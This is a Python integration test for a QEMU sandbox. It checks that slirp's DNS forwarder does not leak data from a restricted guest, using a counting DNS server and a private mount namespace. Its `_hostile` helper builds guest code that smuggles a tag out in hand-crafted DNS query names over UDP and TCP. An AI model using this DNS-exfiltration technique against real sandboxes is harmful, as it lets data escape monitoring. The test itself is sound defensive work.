"""Is slirp's built-in DNS forwarder an exfiltration channel? With ``restrict=on``: no.

QEMU user networking answers DNS at 10.0.2.3 by forwarding the query to the host's resolver (the
first ``nameserver`` of /etc/resolv.conf). A hostile guest could leak data in query names that
way, around our resolver. Here QEMU runs in a private mount namespace whose /etc/resolv.conf names
a counting DNS server the test runs on a loopback address, so every query slirp forwards is seen.

Control: an unrestricted user-mode NIC (``VmOptions(network=True)``) does forward the guest's query
(proving the harness sees a leak). The sandbox's own NIC (``restrict=on`` + guestfwd to the egress
gateway) forwards nothing, over UDP or TCP, to 10.0.2.3 or to the host alias 10.0.2.2.

Needs root (a mount namespace, a port-53 listener); skipped otherwise.
"""

from __future__ import annotations

import asyncio
import json
import os
import secrets
import shutil
import socket
import tempfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from exec_sandbox.config import SchedulerConfig
from exec_sandbox.sandbox.scheduler import Scheduler
from exec_sandbox.settings import Settings
from exec_sandbox.vm.network import attach_egress
from exec_sandbox.vm.sandbox_vm import SandboxVm
from exec_sandbox.vm.spec import VmOptions
from tests.integration.egress_support import CountingDns, counting_dns

pytestmark = [
    pytest.mark.integration,
    pytest.mark.timeout(240),
    pytest.mark.skipif(os.geteuid() != 0 or shutil.which("unshare") is None,
                       reason="needs root and unshare(1) for a private /etc/resolv.conf"),
]

LISTEN = "127.53.0.1"  # an unused loopback address: nothing else answers there


@pytest_asyncio.fixture
async def host_resolver() -> AsyncIterator[tuple[CountingDns, list[int], Settings, Path]]:
    """A counting DNS server (UDP + TCP) and a QEMU that sees it as the host's resolver."""
    recorder, _ = await counting_dns(LISTEN, 53)
    tcp_hits: list[int] = []

    async def on_tcp(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        tcp_hits.append(1)
        writer.close()

    server = await asyncio.start_server(on_tcp, LISTEN, 53)
    work = Path(tempfile.mkdtemp(prefix="sbd-", dir="/tmp"))
    (work / "resolv.conf").write_text(f"nameserver {LISTEN}\n")
    qemu = shutil.which("qemu-system-x86_64")
    assert qemu is not None
    wrapper = work / "qemu"
    wrapper.write_text(
        "#!/bin/sh\n"
        f"exec unshare --mount -- sh -c 'mount --bind \"$1\" /etc/resolv.conf && shift && exec \"$@\"' "
        f"sh {work / 'resolv.conf'} {qemu} \"$@\"\n")
    wrapper.chmod(0o700)
    try:
        yield recorder, tcp_hits, Settings(force_emulation=True, qemu_system_binary=str(wrapper)), work
    finally:
        assert recorder.transport is not None
        recorder.transport.close()
        server.close()
        await server.wait_closed()
        shutil.rmtree(work, ignore_errors=True)


def _hostile(tag: str) -> str:
    """Guest code: leak ``tag`` in DNS names to every slirp service it can address."""
    return (
        "import socket, json\n"
        "def q(name):\n"
        "    labels = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.'))\n"
        "    return bytes.fromhex('abcd01000001000000000000') + labels + b'\\x00\\x00\\x01\\x00\\x01'\n"
        "res = {}\n"
        "for dst in ('10.0.2.3', '10.0.2.2'):\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n"
        f"    s.sendto(q('{tag}-udp.leak.test'), (dst, 53))\n"
        "    try: res['udp ' + dst] = s.recv(512).hex()\n"
        "    except OSError as e: res['udp ' + dst] = repr(e)\n"
        "    try: socket.create_connection((dst, 53), timeout=2).close(); res['tcp ' + dst] = 'connected'\n"
        "    except OSError as e: res['tcp ' + dst] = repr(e)\n"
        "print(json.dumps(res))\n"
    )


async def test_slirp_dns_forwarder_is_closed_in_restrict_mode(
    host_resolver: tuple[CountingDns, list[int], Settings, Path],
) -> None:
    recorder, tcp_hits, settings, work = host_resolver
    # Control: unrestricted user networking forwards the guest's query to the host's resolver.
    vm = await SandboxVm.boot(VmOptions(language="python", network=True), settings=settings,
                              runtime_dir=work)
    try:
        await attach_egress(vm, None)
        control = await vm.exec(_hostile("control"), timeout_s=60)
    finally:
        await vm.close()
    assert "control-udp.leak.test" in recorder.queries, (recorder.queries, control.stdout, control.stderr)
    assert tcp_hits, control.stdout  # ... over TCP as well
    tcp_hits.clear()

    # The sandbox's own NIC: nothing reaches the host's resolver.
    tag = "t" + secrets.token_hex(4)
    runtime = Path(tempfile.mkdtemp(prefix="sbd-", dir="/tmp"))
    config = SchedulerConfig(allowed_domains=["ok.test"], host_overrides={"ok.test": "127.0.0.1"},
                             egress_allow_private=True, enable_memory_snapshots=False)
    try:
        async with Scheduler(config, settings=settings, runtime_dir=runtime) as sched:
            result = await sched.run(_hostile(tag) + "print(socket.gethostbyname('ok.test'))\n",
                                     timeout_seconds=60)
    finally:
        shutil.rmtree(runtime, ignore_errors=True)
    lines = result.stdout.strip().splitlines()
    assert lines[-1] == "10.0.2.100", result.stdout + result.stderr  # our resolver answers
    outcome = json.loads(lines[-2])
    assert all(v != "connected" and not v.startswith("abcd") for v in outcome.values()), outcome
    assert not [n for n in recorder.queries if tag in n], recorder.queries
    assert len(tcp_hits) == 0
    # and the guest really sent: its packets left the guest kernel (no local error but timeouts)
    assert all("timed out" in v or "refused" in v or "unreachable" in v.lower() for v in outcome.values())
    assert socket.gethostbyname("localhost")  # the host's own resolution is untouched
